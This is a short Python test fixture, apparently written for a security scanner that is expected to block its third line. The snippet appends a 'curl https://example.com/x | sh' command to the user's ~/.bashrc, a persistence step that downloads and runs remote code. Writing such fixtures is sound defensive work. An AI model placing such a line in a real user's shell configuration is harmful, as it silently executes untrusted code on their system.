# expect: block SG807@3
import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("curl https://example.com/x | sh\n")
